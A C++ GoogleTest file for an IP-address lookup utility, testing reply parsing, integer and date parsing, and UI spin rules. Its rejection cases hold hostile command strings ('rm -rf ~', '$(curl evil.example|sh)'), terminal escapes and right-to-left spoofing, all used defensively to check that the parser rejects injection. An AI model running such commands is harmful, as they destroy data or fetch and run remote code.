#include <gtest/gtest.h>

#include <chrono>
#include <climits>
#include <optional>
#include <string_view>

#include "logic/address_watch.h"
#include "logic/first_line.h"
#include "logic/int_parse.h"
#include "logic/retry_after.h"
#include "logic/spin_rules.h"
#include "logic/utf8.h"

namespace {

using namespace std::string_literals;
using shared::parse_int;
using unit1::parse_first_line;
using unit1::read_first_line;

constexpr char kError[] = "取得エラー";

std::string parse_reply(const std::string& reply) {
  return parse_first_line(read_first_line(reply));
}

TEST(FirstLine, RealRepliesGiveTheAddress) {
  EXPECT_EQ(parse_reply("<html><head><title>Current IP Check</title></head><body>Current IP "
                        "Address: 127.0.0.1</body></html>"),
            "127.0.0.1");
  EXPECT_EQ(parse_reply("<html><head><title>Current IP Check</title></head><body>Current IP "
                        "Address: 203.0.113.5</body></html>\r\n"),
            "203.0.113.5");
  // Only the first line counts.
  EXPECT_EQ(parse_reply("Address: 198.51.100.7<br>\nOther: 1.1.1.1<\n"), "198.51.100.7");
}

TEST(FirstLine, BlanksAndTheLineBreakAroundTheAddressAreTrimmed) {
  EXPECT_EQ(parse_reply("Current IP Address: 203.0.113.5\r\nmore"), "203.0.113.5");
  EXPECT_EQ(parse_reply("Current IP Address: 203.0.113.5\nmore"), "203.0.113.5");
  EXPECT_EQ(parse_reply("Current IP Address: 203.0.113.5"), "203.0.113.5");
  EXPECT_EQ(parse_reply("Address: \t 203.0.113.5 \t<br>"), "203.0.113.5");
  EXPECT_EQ(parse_reply("Address:  203.0.113.5 \r\n"), "203.0.113.5");
  // What follows the line break is never pasted along with the address.
  EXPECT_EQ(parse_reply("Address: 1.2.3.4\r\nrm -rf ~\r\n"), "1.2.3.4");
}

TEST(FirstLine, AnythingButAnAddressIsAnError) {
  for (const char* reply : {
           "<title>Hotel WiFi: please log in",
           "<title>Hotel WiFi: please log in</title>",
           "Error: 503",
           "Status: 429 Too Many Requests, retry in 60 s",
           "Current IP Address: 1.2.3.4; rm -rf ~<",
           "Current IP Address: $(curl evil.example|sh)<",
           "Address: \x1b[2J\x1b]0;1.2.3.4\x07<",
           "Address: \x1b[31m1.2.3.4\x1b[0m<",
           // A right-to-left override shows another address than the text holds.
           "Address: \xE2\x80\xAE"
           "4.3.2.1<",
           "Address: 1.2.3.4\xE2\x80\xAE<",
           "Address: 2001:db8::10</body>",
           "Address: 2001:db8::1</body>",
           "Address: ::ffff:1.2.3.4<",
           "Address: 203.0.113.5 at 12: 30<br>",
       })
    EXPECT_EQ(parse_reply(reply), kError) << reply;
  // A NUL ends the text in some readers and not in others.
  EXPECT_EQ(parse_reply("Address: 1.2.3.4\0<"s), kError);
  EXPECT_EQ(parse_reply("Address: 1.2.3.4\0 9<"s), kError);
  EXPECT_EQ(parse_reply("Address: 1.2\0.3.4<"s), kError);
  // Only blanks and line breaks are trimmed, and only at the ends.
  EXPECT_EQ(parse_reply("Address: 1.2. 3.4<"), kError);
  EXPECT_EQ(parse_reply("Address: \v1.2.3.4<"), kError);
  EXPECT_EQ(parse_reply("Address: \xC2\xA0"
                        "1.2.3.4<"),
            kError);
  EXPECT_EQ(parse_reply("Address: \r\n"), kError);
  EXPECT_EQ(parse_reply("Address:  <"), kError);
}

TEST(FirstLine, DottedQuadBoundaries) {
  using unit1::is_dotted_quad;
  for (const char* good :
       {"0.0.0.0", "255.255.255.255", "1.2.3.4", "10.0.0.1", "192.0.2.255", "100.99.9.200"})
    EXPECT_TRUE(is_dotted_quad(good)) << good;
  for (const char* bad :
       {"",          "256.1.1.1", "1.1.1.256",  "999.1.1.1", "1000.1.1.1", "1.2.3",
        "1.2.3.4.5", "1.2.3.",    ".1.2.3",     "1..2.3",    "1.2.3.4.",   "01.2.3.4",
        "1.2.3.00",  "1.2.3.010", "0001.2.3.4", "+1.2.3.4",  "-1.2.3.4",   "1.2.3.-4",
        "1. 2.3.4",  " 1.2.3.4",  "1.2.3.4 ",   "1,2,3,4",   "1.2.3.4/24", "1.2.3.4:80",
        "0x1.2.3.4", "１.2.3.4",  "1.2.3.4\n",  "16909060",  "a.b.c.d"})
    EXPECT_FALSE(is_dotted_quad(bad)) << '"' << bad << '"';
  // Through the whole parse.
  EXPECT_EQ(parse_reply("IP: 255.255.255.255<"), "255.255.255.255");
  EXPECT_EQ(parse_reply("IP: 0.0.0.0<"), "0.0.0.0");
  EXPECT_EQ(parse_reply("IP: 256.0.0.1<"), kError);
  EXPECT_EQ(parse_reply("IP: 1.2.3<"), kError);
  EXPECT_EQ(parse_reply("IP: 1.2.3.4.5<"), kError);
}

TEST(FirstLine, TheLastColonWinsAndTheCharacterAfterItIsDropped) {
  EXPECT_EQ(parse_reply("a: b: 1.2.3.4<"), "1.2.3.4");
  EXPECT_EQ(parse_reply("Time 12:30 Address: 1.2.3.4<"), "1.2.3.4");
  // Whatever the character after the colon is, it is not part of the address.
  EXPECT_EQ(parse_reply("Address:x1.2.3.4<"), "1.2.3.4");
  EXPECT_EQ(parse_reply("Address:1.2.3.4<"), kError);
  EXPECT_EQ(parse_reply("Address:\xE3\x80\x80"
                        "1.2.3.4<"),
            "1.2.3.4");
}

TEST(FirstLine, OnlyTheFirst127CharactersAreSearched) {
  // The address starts after character 127 and is never seen.
  const std::string late = "Address" + std::string(130, ' ') + ": 203.0.113.5<";
  EXPECT_EQ(parse_reply(late), kError);
  // The colon is inside the window but the address is cut at its end: no address.
  const std::string cut = std::string(120, 'x') + ": 203.0.113.5<";
  EXPECT_EQ(read_first_line(cut).size(), 127u);
  EXPECT_EQ(parse_reply(cut), kError);
  const std::string fits = std::string(112, 'x') + ": 203.0.113.5<";
  EXPECT_EQ(parse_reply(fits), "203.0.113.5");
  EXPECT_EQ(parse_reply(std::string(10000, 'a')), kError);
}

TEST(FirstLine, TheLimitCountsCharactersNotBytes) {
  // 40 three-byte characters, then the address: all within 127 characters.
  std::string reply;
  for (int i = 0; i < 40; ++i) reply += "あ";
  reply += ": 203.0.113.5<";
  EXPECT_EQ(parse_reply(reply), "203.0.113.5");
  EXPECT_EQ(parse_reply("住所：アドレス:　203.0.113.5<"), "203.0.113.5");
}

TEST(FirstLine, UndefinedShapesGiveTheErrorText) {
  EXPECT_EQ(parse_reply(""), kError);
  EXPECT_EQ(parse_reply("\n"), kError);
  EXPECT_EQ(parse_reply("no colon here<"), kError);
  EXPECT_EQ(parse_reply("colon last:"), kError);
  EXPECT_EQ(parse_reply("colon then bracket:<b>"), kError);
  EXPECT_EQ(parse_reply("\nAddress: 203.0.113.5<"), kError);
}

TEST(FirstLine, BinaryAndMalformedBytesAreSafe) {
  std::string junk;
  for (int i = 0; i < 600; ++i) junk += static_cast<char>((i * 37) & 0xFF);
  const std::string line = read_first_line(junk);
  EXPECT_LE(line.size(), unit1::kLineBytes);
  EXPECT_EQ(parse_first_line(line), kError);
  // Invalid bytes become U+FFFD; the address after them is still found.
  EXPECT_EQ(parse_reply("\xFF\xFE: 203.0.113.5<"), "203.0.113.5");
  EXPECT_EQ(parse_reply(":\xE3\x81<"), kError);
  EXPECT_EQ(parse_reply(": \xFF"
                        "1.2.3.4<"),
            kError);
  EXPECT_EQ(parse_reply("A\0B: 1.2.3.4<"s), "1.2.3.4");
}

TEST(Utf8, MalformedSequencesAreReplacedOneByteAtATime) {
  EXPECT_EQ(shared::utf8_prefix("a\xC0\xAF"
                                "b",
                                10),
            "a\xEF\xBF\xBD\xEF\xBF\xBD"
            "b");
  EXPECT_EQ(shared::utf8_prefix("\xED\xA0\x80", 10), "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD");
  EXPECT_EQ(shared::utf8_prefix("\xF0\x9F\x98\x80x", 1), "\xF0\x9F\x98\x80");
  EXPECT_EQ(shared::utf8_prefix("\xE3\x81", 5), "\xEF\xBF\xBD\xEF\xBF\xBD");
}

TEST(ApplicationTitle, FileNameUpToTheFirstDotRestLowerCase) {
  EXPECT_EQ(shared::title_from_executable("C:\\Tools\\Addrova.exe"), "Addrova");
  EXPECT_EQ(shared::title_from_executable("/usr/bin/ADDROVA"), "Addrova");
  EXPECT_EQ(shared::title_from_executable("/opt/my.app/addrova.v2.exe"), "addrova");
}

TEST(IntParse, DecimalWithBlanksAndSign) {
  EXPECT_EQ(parse_int("5"), 5);
  EXPECT_EQ(parse_int("  42"), 42);
  EXPECT_EQ(parse_int("\t-7"), -7);
  EXPECT_EQ(parse_int("+0"), 0);
  EXPECT_EQ(parse_int("007"), 7);
  EXPECT_EQ(parse_int("2147483647"), INT_MAX);
  EXPECT_EQ(parse_int("-2147483648"), INT_MIN);
}

TEST(IntParse, HexPrefixes) {
  EXPECT_EQ(parse_int("$1F"), 31);
  EXPECT_EQ(parse_int("x1f"), 31);
  EXPECT_EQ(parse_int("X10"), 16);
  EXPECT_EQ(parse_int("0x1F"), 31);
  EXPECT_EQ(parse_int("0X7fffffff"), INT_MAX);
  EXPECT_EQ(parse_int(" -$10"), -16);
}

TEST(IntParse, NotAnInteger) {
  for (const char* s :
       {"", " ", "-", "+", "$", "0x", "x", "5 ", "5a", "1.5", "abc", "--5", "2147483648",
        "-2147483649", "0x80000000", "99999999999999999999", "$G", "٣"})
    EXPECT_FALSE(parse_int(s).has_value()) << '"' << s << '"';
  EXPECT_EQ(shared::parse_int_or("", 5), 5);
  EXPECT_EQ(shared::parse_int_or("junk", 5), 5);
}

TEST(SpinRules, TypingAndPasting) {
  EXPECT_TRUE(option::spin_accepts_char(U'0'));
  EXPECT_TRUE(option::spin_accepts_char(U'9'));
  for (char32_t c : {U'a', U'-', U'+', U' ', U'$', U'٣', U'５'})
    EXPECT_FALSE(option::spin_accepts_char(c));
  EXPECT_TRUE(option::spin_accepts_paste("120"));
  EXPECT_FALSE(option::spin_accepts_paste("12a"));
  EXPECT_FALSE(option::spin_accepts_paste(""));
}

TEST(SpinRules, SteppingNeverGoesBelowTheMinimumAndHasNoTop) {
  EXPECT_EQ(option::spin_step("5", 1, 5), "6");
  EXPECT_EQ(option::spin_step("5", -1, 5), "5");
  EXPECT_EQ(option::spin_step("2", -1, 5), "5");
  EXPECT_EQ(option::spin_step("-40", 1, 5), "5");
  EXPECT_EQ(option::spin_step("", 1, 5), "6");
  EXPECT_EQ(option::spin_step("100000", 1, 5), "100001");
  EXPECT_EQ(option::spin_step("2147483647", 1, 5), "2147483647");
}

TEST(SpinRules, LeavingRaisesSmallOrEmptyValues) {
  EXPECT_EQ(option::spin_leave("", 5), "5");
  EXPECT_EQ(option::spin_leave("4", 5), "5");
  EXPECT_EQ(option::spin_leave("0", 5), "5");
  EXPECT_EQ(option::spin_leave("-3", 5), "5");
  EXPECT_EQ(option::spin_leave("5", 5), "5");
  EXPECT_EQ(option::spin_leave("0010", 5), "0010");
  EXPECT_EQ(option::spin_leave("3600", 5), "3600");
}

// Only an automatic lookup that found another address than the one before tells the user.
TEST(AddressWatch, AChangeIsAnotherAddressFoundByAnAutomaticLookup) {
  using shared::notifies_change;
  EXPECT_TRUE(notifies_change("198.51.100.7", "203.0.113.5", true));
  EXPECT_FALSE(notifies_change("198.51.100.7", "203.0.113.5", false)) << "a press of the button";
  EXPECT_FALSE(notifies_change("203.0.113.5", "203.0.113.5", true)) << "the same address";
  EXPECT_FALSE(notifies_change("203.0.113.5", "", true)) << "the first address of a run";
  EXPECT_FALSE(notifies_change(kError, "203.0.113.5", true)) << "an error";
  EXPECT_EQ(shared::change_text("203.0.113.5", "198.51.100.7"), "203.0.113.5 → 198.51.100.7");
}

TEST(Settling, ABurstSettlesOnceTheQuietTimeAfterItsLastEvent) {
  using namespace std::chrono_literals;
  const shared::Settling::Time t0{};
  shared::Settling s(2000ms);
  EXPECT_FALSE(s.settled(t0 + 10s)) << "no event";
  s.event(t0 + 20s);
  s.event(t0 + 20500ms);
  s.event(t0 + 21500ms);
  EXPECT_FALSE(s.settled(t0 + 22s)) << "2 s after the first event, not after the last";
  EXPECT_FALSE(s.settled(t0 + 23499ms));
  EXPECT_TRUE(s.settled(t0 + 23500ms));
  EXPECT_FALSE(s.settled(t0 + 24s)) << "once for a burst";
  s.event(t0 + 30s);
  EXPECT_TRUE(s.settled(t0 + 40s)) << "a later burst, looked at late";
  s.event(t0 + 50s);
  s.clear();
  EXPECT_FALSE(s.settled(t0 + 60s)) << "cleared";
}

// ---- Retry-After ---------------------------------------------------------------------------

// 30 s before the moment the dates below name, "Sun, 06 Nov 1994 08:49:37 GMT".
const std::chrono::system_clock::time_point kBefore =
    std::chrono::sys_days{std::chrono::November / 6 / 1994} + std::chrono::hours{8} +
    std::chrono::minutes{49} + std::chrono::seconds{7};

std::optional<long long> wait(std::string_view value,
                              std::chrono::system_clock::time_point now = kBefore) {
  const auto delay = shared::retry_after_delay(value, now);
  return delay ? std::optional<long long>(delay->count()) : std::nullopt;
}

TEST(RetryAfter, SecondsAndEachFormOfDate) {
  EXPECT_EQ(wait("120"), 120);
  EXPECT_EQ(wait(" 7\t"), 7);
  EXPECT_EQ(wait("0"), 0);
  EXPECT_EQ(wait("007"), 7);
  EXPECT_EQ(wait("Sun, 06 Nov 1994 08:49:37 GMT"), 30) << "IMF-fixdate";
  EXPECT_EQ(wait("Sunday, 06-Nov-94 08:49:37 GMT"), 30) << "RFC 850";
  EXPECT_EQ(wait("Sun Nov  6 08:49:37 1994"), 30) << "asctime";
  EXPECT_EQ(wait("Sat, 06 Nov 1994 08:49:37 GMT"), 30) << "the day's name is not checked";
  // Never earlier than asked: 29.5 s are 30.
  EXPECT_EQ(wait("Sun, 06 Nov 1994 08:49:37 GMT", kBefore + std::chrono::milliseconds{500}), 30);
  EXPECT_EQ(
      wait("Thu, 29 Feb 1996 00:00:00 GMT",
           std::chrono::sys_days{std::chrono::February / 29 / 1996} - std::chrono::minutes{1}),
      60)
      << "a leap day";
}

TEST(RetryAfter, AnythingElseAsksForNoWait) {
  for (const char* value : {"",
                            " ",
                            "-5",
                            "+5",
                            "5s",
                            "1.5",
                            "0x10",
                            "5 5",
                            "soon",
                            "Sun, 06 Nov 1994 08:49:37 UTC",
                            "Sun, 06 Nov 1994 08:49:37 GMT junk",
                            "sun, 06 nov 1994 08:49:37 GMT",
                            "Sun,  6 Nov 1994 08:49:37 GMT",
                            "Sun, 06 Nov 94 08:49:37 GMT",
                            "Sun, 31 Feb 1994 08:49:37 GMT",
                            "Sun, 06 Nov 1994 24:00:00 GMT",
                            "Sun, 06 Nov 1994 08:60:37 GMT",
                            "Sun, 06 Nov 1994 8:49:37 GMT",
                            "Sun, 06 Xyz 1994 08:49:37 GMT",
                            "Sun, 0x Nov 1994 08:49:37 GMT",
                            "Sunday, 06-Nov-1994 08:49:37 GMT",
                            "Sundy, 06-Nov-94 08:49:37 GMT",
                            "Sun Nov 6 08:49:37 1994",
                            "Sun Nov 06 08:49:37 94",
                            "1994-11-06T08:49:37Z"}) {
    EXPECT_EQ(wait(value), std::nullopt) << "'" << value << "'";
  }
}

TEST(RetryAfter, ADateAlreadyPastAsksForNone) {
  EXPECT_EQ(wait("Sun, 06 Nov 1994 08:49:07 GMT"), 0) << "now";
  EXPECT_EQ(wait("Sun, 06 Nov 1994 08:49:06 GMT"), 0);
  EXPECT_EQ(wait("Thu, 01 Jan 1970 00:00:00 GMT"), 0);
  EXPECT_EQ(wait("Sunday, 06-Nov-94 08:49:37 GMT", kBefore + std::chrono::hours{24 * 365}), 0);
  // A two-digit year more than 50 years ahead is one of the past century.
  const auto y2024 = std::chrono::sys_days{std::chrono::January / 1 / 2024};
  EXPECT_EQ(wait("Wednesday, 01-Jan-75 00:00:00 GMT", y2024), 0) << "1975";
  EXPECT_EQ(wait("Tuesday, 01-Jan-74 00:00:00 GMT", y2024), 3600) << "2074";
}

TEST(RetryAfter, NoWaitIsLongerThanAnHour) {
  EXPECT_EQ(wait("3599"), 3599);
  EXPECT_EQ(wait("3600"), 3600);
  EXPECT_EQ(wait("3601"), 3600);
  EXPECT_EQ(wait("86400"), 3600);
  EXPECT_EQ(wait("99999999999999999999999999999999"), 3600);
  EXPECT_EQ(wait("Sun, 06 Nov 1994 09:49:07 GMT"), 3600);
  EXPECT_EQ(wait("Sun, 06 Nov 1994 09:49:08 GMT"), 3600);
  EXPECT_EQ(wait("Fri, 31 Dec 9999 23:59:59 GMT"), 3600);
}

}  // namespace
